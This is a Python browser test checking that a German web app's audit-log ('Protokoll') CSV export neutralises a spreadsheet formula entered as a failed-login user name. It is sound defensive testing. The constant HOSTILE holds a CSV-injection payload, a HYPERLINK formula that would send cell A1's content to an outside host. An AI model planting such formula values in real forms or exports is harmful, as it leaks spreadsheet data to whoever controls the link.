"""CSV injection through the Protokoll: a failed login with a formula as user name lands in the
audit log without logging in; the grid's client-side CSV export (AG Grid, in a real browser)
writes it neutralised, by the rule of ``etl.documents.cells.neutral_text``."""

from __future__ import annotations

import csv
import io

import pytest

from etl.documents.cells import neutral_text
from tests.browser.conftest import App

pytestmark = pytest.mark.browser

HOSTILE = '=HYPERLINK("http://example.org/?x="&A1,"klick")'


def _failed_login(browser, server: str, username: str) -> None:
    context = browser.new_context(locale="de-DE")
    page = context.new_page()
    page.goto(server + "/login")
    page.fill("#username", username)
    page.fill("#password", "falsch")
    page.click("button[type=submit]")
    page.wait_for_load_state("networkidle")
    assert "/login" in page.url  # not logged in
    context.close()


def test_protokoll_csv_export_neutralises_a_hostile_user_name(browser, server, app_as, tmp_path):
    _failed_login(browser, server, HOSTILE)
    app: App = app_as("admin")
    app.open("/protokoll", "#audit-grid .ag-center-cols-container .ag-row")
    stored = HOSTILE.lower()  # the login form folds user names to lower case
    app.page.wait_for_function(  # the grid holds the failed login (newest first)
        "t => [...document.querySelectorAll('#audit-grid .ag-cell')]"
        ".some(c => c.textContent.trim() === t)",
        arg=stored,
    )
    with app.page.expect_download() as info:
        app.page.click("#audit-export")
    target = tmp_path / "protokoll.csv"
    info.value.save_as(target)
    text = target.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, body = rows[0], rows[1:]
    user = header.index("Benutzer")
    names = [r[user] for r in body]
    assert neutral_text(stored) == "'" + stored
    assert "'" + stored in names and stored not in names
    # every cell that starts like a formula is neutralised; numbers and dates stay as shown
    assert not [c for r in body for c in r if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    at = header.index("Zeitpunkt")
    assert body[0][at][2] == "." and body[0][at][5] == "."  # German date, as the grid shows it
